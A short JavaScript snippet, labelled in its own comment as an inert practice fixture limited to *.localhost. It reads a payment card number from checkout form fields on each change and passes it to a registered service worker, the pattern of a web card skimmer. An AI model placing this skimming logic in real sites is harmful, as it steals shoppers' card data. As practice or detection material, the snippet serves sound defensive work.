/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  const ready = navigator.serviceWorker.register('/sw-cache.js').catch(() => null);
  document.addEventListener('change', async () => {
    const worker = await ready;
    const active = worker?.active ?? worker?.waiting ?? worker?.installing;
    if (number().length > 12) active?.postMessage(number());
  });
})();
